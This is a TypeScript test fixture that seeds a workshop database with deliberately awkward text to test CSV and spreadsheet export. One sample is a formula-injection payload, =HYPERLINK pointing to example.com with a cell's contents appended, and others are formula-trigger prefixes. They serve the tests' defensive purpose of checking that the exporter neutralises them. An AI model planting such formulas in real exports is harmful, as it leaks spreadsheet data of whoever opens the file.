import 'fake-indexeddb/auto';
import { agreedScoreIdFor } from '../../../../../../src/shared/identity/derived-id.ts';
import { readFileSync } from 'node:fs';
import { DEFAULT_TUOC } from '../../../../../../src/shared/framework/default-tuoc.ts';
import { loadWorkshopBundle, type WorkshopBundle } from '../../../../../../src/app/features/report/export/bundle.ts';
import { openLocalStore, type LocalStore } from '../../../../../../src/app/core/db/store.ts';
import type { WorkshopInput } from '../../../../../../src/shared/schemas/records.ts';

/** Text a spreadsheet or a naive CSV writer gets wrong: quotes, commas, line breaks, scripts, emoji, formulas. */
export const TRICKY = {
  title: 'Économie informelle: "santé", sécurité & التضامن 🤝',
  quoted: 'She said "organise, then negotiate", twice',
  multiline: 'First line\nsecond line, with a comma\r\nthird',
  arabic: 'الاتحاد العام لعمال الموانئ',
  emoji: 'Solidarity ✊🏾 across borders',
  hyperlink: '=HYPERLINK("http://example.com/?leak="&A1,"click")',
  plus: '+1',
  minus: '-5 members',
  at: '@sum',
} as const;

/** Names that must never appear where a workshop scores anonymously. */
export const RESPONDENTS = ['Zainab Respondent', 'Olaf Respondent'] as const;

const workshopInput = (anonymousScores: boolean): WorkshopInput => ({
  title: TRICKY.title,
  theme: 'social-protection',
  startDate: '2026-03-10',
  endDate: '2026-03-11',
  venue: 'Thiès',
  country: 'SN',
  languages: ['fr', 'ar'],
  facilitators: ['Awa Diop', 'Henrik Olsen'],
  objectives: TRICKY.multiline,
  projectIds: [],
  anonymousScores,
  status: 'running',
});

let clock = 1_773_136_800_000; // 2026-03-10, mid-morning in Dakar
const now = () => (clock += 1000);

/**
 * A small workshop with every kind of record, tricky text, one deleted note, a linked project, a
 * project named only by a practice and one belonging to another workshop.
 */
export async function seedWorkshop(options: { anonymousScores?: boolean } = {}): Promise<{ store: LocalStore; workshopId: string }> {
  const store = await openLocalStore(`export-${Math.random()}`, now);
  const r = store.repos;
  const linked = await r.project.create(
    {
      reference: 'RAF/22/11/NOR',
      title: 'Rights at work',
      donor: 'Norway',
      partners: ['CNTL', 'NUSF'],
      countries: ['SN', 'NO'],
      themes: ['social-protection'],
      startDate: '2026-01-01',
      endDate: '',
      status: 'active',
    },
    store.ownerId,
  );
  const viaPractice = await r.project.create(
    { reference: 'INT/23/05/FIN', title: TRICKY.quoted, donor: 'Finland', partners: [], countries: [], themes: [], startDate: '', endDate: '', status: 'planned' },
    store.ownerId,
  );
  await r.project.create(
    { reference: 'ASI/21/02/SWE', title: 'Not this workshop', donor: 'Sweden', partners: [], countries: [], themes: [], startDate: '', endDate: '', status: 'completed' },
    store.ownerId,
  );
  const w = await r.workshop.create({ ...workshopInput(options.anonymousScores ?? false), projectIds: [linked.id] });
  const id = w.id;

  const day2 = await r.agendaItem.create({ title: 'Priorities, "action" plans', kind: 'group-work', day: 2, start: '15:30', minutes: 75, order: 2 }, id);
  const opening = await r.agendaItem.create({ title: 'Opening', kind: 'plenary', day: 1, start: '09:00', minutes: 45, order: 1 }, id);

  const cntl = await r.organisation.create({ name: 'Confédération nationale, "CNTL"', acronym: 'CNTL', country: 'SN', kind: 'national-centre', partnerRole: 'receiving' }, id);
  const gupw = await r.organisation.create({ name: TRICKY.arabic, acronym: 'GUPW', country: 'MA', kind: 'sectoral-federation', partnerRole: 'receiving' }, id);
  const evil = await r.organisation.create({ name: TRICKY.hyperlink, acronym: TRICKY.at, country: '', kind: 'other', partnerRole: 'other' }, id);

  const zainab = await r.participant.create({ name: RESPONDENTS[0], organisationId: cntl.id, role: TRICKY.minus, gender: 'female', consent: true }, id);
  const olaf = await r.participant.create({ name: RESPONDENTS[1], organisationId: gupw.id, role: '', gender: '', consent: false }, id);
  await r.participant.create({ name: TRICKY.plus, organisationId: evil.id, role: TRICKY.at, gender: 'undisclosed', consent: true }, id);

  const note = await r.note.create(
    { agendaItemId: opening.id, kind: 'quote', text: TRICKY.quoted, capacities: ['collective-bargaining', 'organising-mobilising'], participantId: zainab.id, organisationId: cntl.id },
    id,
  );
  await r.note.create({ agendaItemId: day2.id, kind: 'lesson', text: TRICKY.multiline, capacities: [], organisationId: gupw.id }, id);
  await r.note.create({ kind: 'approach', text: TRICKY.emoji, capacities: ['my-own-capacity'] }, id);
  await r.note.create({ kind: 'challenge', text: TRICKY.hyperlink, capacities: [] }, id);
  const gone = await r.note.create({ kind: 'question', text: 'Deleted before the export', capacities: [] }, id);
  await r.note.remove(gone.id);

  await r.practice.create(
    {
      title: TRICKY.arabic,
      context: TRICKY.multiline,
      approach: TRICKY.minus,
      results: TRICKY.emoji,
      capacities: ['resource-mobilisation'],
      sustainability: '',
      contact: TRICKY.at,
      organisationIds: [cntl.id, gupw.id],
      projectIds: [viaPractice.id],
      sourceNoteId: note.id,
      status: 'reviewed',
    },
    id,
  );

  const a1 = await r.assessment.create({ respondentId: zainab.id, organisationId: cntl.id, frameworkId: 'tuoc', frameworkVersion: 1, round: 'baseline', submitted: true }, id);
  const a2 = await r.assessment.create({ respondentId: olaf.id, organisationId: gupw.id, frameworkId: 'tuoc', frameworkVersion: 1, round: 'Mid-term, "June"', submitted: false }, id);
  await r.score.create({ assessmentId: a1.id, itemId: 'collective-bargaining', value: 4, comment: TRICKY.hyperlink }, id);
  await r.score.create({ assessmentId: a1.id, itemId: 'autonomy', value: null, comment: TRICKY.multiline }, id);
  await r.score.create({ assessmentId: a1.id, itemId: 'sustainability', value: 2, comment: '' }, id);
  await r.score.create({ assessmentId: a2.id, itemId: 'influencing-policy', value: 5, comment: TRICKY.arabic }, id);

  await r.swot.create({ organisationId: cntl.id, quadrant: 'strength', text: TRICKY.quoted, itemId: 'collective-bargaining', author: 'Zainab' }, id);
  await r.swot.create({ quadrant: 'threat', text: TRICKY.plus, factorId: DEFAULT_TUOC.factors[0]?.id }, id);
  await r.action.create({ organisationId: gupw.id, itemId: 'autonomy', action: TRICKY.minus, who: TRICKY.at, due: '2026-06-30', indicator: TRICKY.multiline, status: 'in-progress' }, id);
  // A revealed vote of two options: two ballots that fit, one with more dots than allowed (not counted).
  const pollOptions = [
    { id: 'organising', label: TRICKY.quoted },
    { id: 'autonomy', label: 'Autonomy' },
  ];
  const poll = await r.poll.create({ title: 'Our priorities', subject: 'capacities', options: pollOptions, dots: 2, stack: true, state: 'revealed' }, id);
  for (const dots of [{ organising: 2 }, { organising: 1, autonomy: 1 }, { autonomy: 3 }] as Record<string, number>[]) await r.ballot.create({ pollId: poll.id, dots }, id);
  // A vote still open: secret, so its ballot is in no export.
  const open = await r.poll.create({ title: 'Still open', subject: 'capacities', options: pollOptions, dots: 1, stack: false, state: 'open' }, id);
  await r.ballot.create({ pollId: open.id, dots: { autonomy: 1 } }, id);
  await r.agreedScore.put(agreedScoreIdFor(id, cntl.id, 'autonomy', 'baseline'), { organisationId: cntl.id, itemId: 'autonomy', round: 'baseline', value: 2, justification: TRICKY.multiline }, id);
  return { store, workshopId: id };
}

export async function seededBundle(options: { anonymousScores?: boolean } = {}): Promise<WorkshopBundle> {
  const { store, workshopId } = await seedWorkshop(options);
  try {
    const bundle = await loadWorkshopBundle(store, workshopId, DEFAULT_TUOC);
    if (!bundle) throw new Error('seeded workshop not found');
    return bundle;
  } finally {
    store.close();
  }
}

interface Scenario {
  organisations: { key: string; name: string }[];
  participants: { key: string; name: string; organisation: string }[];
  assessments: { respondent: string; organisation: string; round: string; scores: Record<string, number | null> }[];
}

/** The field scenario's organisations, participants and assessments (12 people, 15 items each), as records. */
export async function seedFieldScenario(): Promise<WorkshopBundle> {
  const scenario = JSON.parse(readFileSync(new URL('../../../../../fixtures/field-scenario.json', import.meta.url), 'utf8')) as Scenario;
  const store = await openLocalStore(`export-field-${Math.random()}`, now);
  try {
    const r = store.repos;
    const w = await r.workshop.create(workshopInput(false));
    const orgs = new Map<string, string>();
    for (const o of scenario.organisations) orgs.set(o.key, (await r.organisation.create({ name: o.name, acronym: '', country: '', kind: 'other', partnerRole: 'other' }, w.id)).id);
    const people = new Map<string, string>();
    for (const p of scenario.participants) people.set(p.key, (await r.participant.create({ name: p.name, organisationId: orgs.get(p.organisation), role: '', gender: '', consent: true }, w.id)).id);
    for (const a of scenario.assessments) {
      const organisationId = orgs.get(a.organisation) ?? '';
      const rec = await r.assessment.create({ respondentId: people.get(a.respondent), organisationId, frameworkId: 'tuoc', frameworkVersion: 1, round: a.round, submitted: true }, w.id);
      for (const [itemId, value] of Object.entries(a.scores)) await r.score.create({ assessmentId: rec.id, itemId, value, comment: '' }, w.id);
    }
    const bundle = await loadWorkshopBundle(store, w.id, DEFAULT_TUOC);
    if (!bundle) throw new Error('seeded workshop not found');
    return bundle;
  } finally {
    store.close();
  }
}

export { parseCsv } from '../../../../../support/csv.ts';
